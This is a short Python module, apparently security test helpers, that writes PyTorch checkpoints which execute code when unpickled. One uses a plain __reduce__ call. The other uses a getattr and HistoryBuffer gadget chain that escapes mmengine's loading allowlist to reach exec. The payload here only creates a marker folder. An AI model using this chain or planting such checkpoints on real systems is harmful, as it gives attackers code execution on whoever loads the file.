"""Checkpoints that make a folder when they are unpickled in full."""

from __future__ import annotations

import os
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickled as a call; what the call returns gets the items, as a dict does."""

    def __init__(self, function, *args, items=()):
        self.reduced = (function, args, None, None, iter(items) if items else None)

    def __reduce__(self):
        return self.reduced


def plain_call(mark: Path) -> Call:
    """What every pickle can do: call a function."""
    return Call(os.mkdir, str(mark))


def call_by_getattr(mark: Path) -> list[Call]:
    """The same out of nothing but ``getattr`` and ``HistoryBuffer``, which mmengine allows.

    ``len`` in the module of HistoryBuffer becomes ``exec``, and its constructor calls ``len`` on
    the text it is given. The code clears up behind itself.
    """
    python = Call(getattr, getattr, '__self__')
    function = Call(getattr, HistoryBuffer, '__init__')
    names = Call(getattr, function, '__globals__', items=[('len', Call(getattr, python, 'exec'))])
    code = f'import os; os.mkdir({str(mark)!r}); globals().pop("len")'
    return [names, Call(HistoryBuffer, code, '')]


def write_hostile(path: Path, mark: Path, payload) -> None:
    """Write a checkpoint that looks like one, and makes the folder ``mark``."""
    meta = dict(epoch=1, iter=1, extra=payload(mark))
    torch.save(dict(state_dict={}, meta=meta), path)
